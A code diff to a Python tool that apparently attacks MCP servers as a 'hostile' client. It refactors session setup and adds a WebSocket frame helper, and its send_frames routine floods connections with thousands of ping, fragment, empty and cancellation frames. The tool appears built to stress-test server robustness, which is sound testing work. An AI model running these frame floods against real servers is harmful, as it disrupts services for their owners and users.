@@ -27,6 +27,10 @@ BODY: Final = 4 * 1024 * 1024
 STATEFUL: Final = "2025-11-25"
 BATCHES: Final = "2025-03-26"
 BASIC: Final = ("Content-Type: application/json", "Accept: application/json, text/event-stream")
+UPGRADE: Final = (
+    "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
+    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol: mcp",
+)  # fmt: skip
 NAMED: Final = {"tools/call": "name", "resources/read": "uri"}
 
 
@@ -80,10 +84,12 @@ class Peer:
     def frame(self, method: str, params: Json) -> bytes:
         return json.dumps({"jsonrpc": "2.0", "id": next(self.ids), "method": method, "params": params}).encode()
 
-    async def open_session(self, stream: trio.SocketStream, date: str = STATEFUL) -> str:
+    def initialize(self, date: str = STATEFUL) -> bytes:
         info = {"name": "hostile", "version": "1"}
-        params = {"protocolVersion": date, "capabilities": {}, "clientInfo": info}
-        body = self.frame("initialize", params)
+        return self.frame("initialize", {"protocolVersion": date, "capabilities": {}, "clientInfo": info})
+
+    async def open_session(self, stream: trio.SocketStream, date: str = STATEFUL) -> str:
+        body = self.initialize(date)
         head = await self.ask(stream, self.head(length=len(body)) + body)
         found = [line for line in head.split(b"\r\n") if line.lower().startswith(b"mcp-session-id:")]
         if not found:
@@ -147,6 +153,12 @@ class Peer:
 
 class Refused(Exception):
     """The server closed the connection, or answered otherwise than the attack needs."""
+
+
+def masked(message: bytes) -> bytes:
+    """A WebSocket frame of a client with a short text."""
+    size = bytes([0x80 | len(message)]) if len(message) < 126 else b"\xfe" + len(message).to_bytes(2, "big")
+    return b"\x81" + size + b"\0\0\0\0" + message
 
 
 async def announce_bodies(peer: Peer) -> None:
@@ -253,17 +265,13 @@ async def leave_running_tasks(peer: Peer) -> None:
 
 
 async def send_frames(peer: Peer) -> None:
-    upgrade = (
-        "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
-        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol: mcp",
-    )  # fmt: skip
     ping, fragment = b"\x89\x80\0\0\0\0", b"\x01\x81\0\0\0\0{" + b"\x00\x81\0\0\0\0x" * 4000
     empty = b"\x00\x80\0\0\0\0" * 2000
     message = b'{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}}'
-    small = (b"\x81" + bytes([0x80 | len(message)]) + b"\0\0\0\0" + message) * 200
+    small = masked(message) * 200
 
     async def work(stream: trio.SocketStream) -> None:
-        await stream.send_all(peer.head(*upgrade, method="GET"))
+        await stream.send_all(peer.head(*UPGRADE, method="GET"))
         await peer.some(stream)
         kind = random.choice((ping * 2000, fragment, b"\x01\x80\0\0\0\0" + empty, small))
         async with trio.open_nursery() as nursery:
